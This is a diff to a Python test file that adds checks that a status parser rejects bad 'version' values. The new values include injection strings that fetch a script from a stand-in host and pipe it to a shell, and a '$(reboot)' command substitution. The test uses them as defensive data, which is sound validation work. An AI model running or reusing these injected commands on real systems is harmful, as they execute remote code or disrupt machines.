@@ -60,6 +60,8 @@ def test_what_a_living_compute_says_is_believed_as_far_as_it_makes_sense() -> No
     for value in (b'', b'[]', b'{"hostname": 1, "version": [], "kind": "", "queues": "yes"}', b'\xff'):
         assert living_in(value) == Living()
     assert living_in(json.dumps({'version': 'v' * 10_000}).encode()) == Living(version='v' * 64)
+    for version in ("9'; curl evil.example|sh; '", '9 9', '$(reboot)', '9\n'):
+        assert living_in(json.dumps({**said, 'version': version}).encode()) == Living('hv1', None, 'kvm', True)
 
 
 def test_that_nobody_takes_from_queues_is_said_where_it_is_known() -> None:
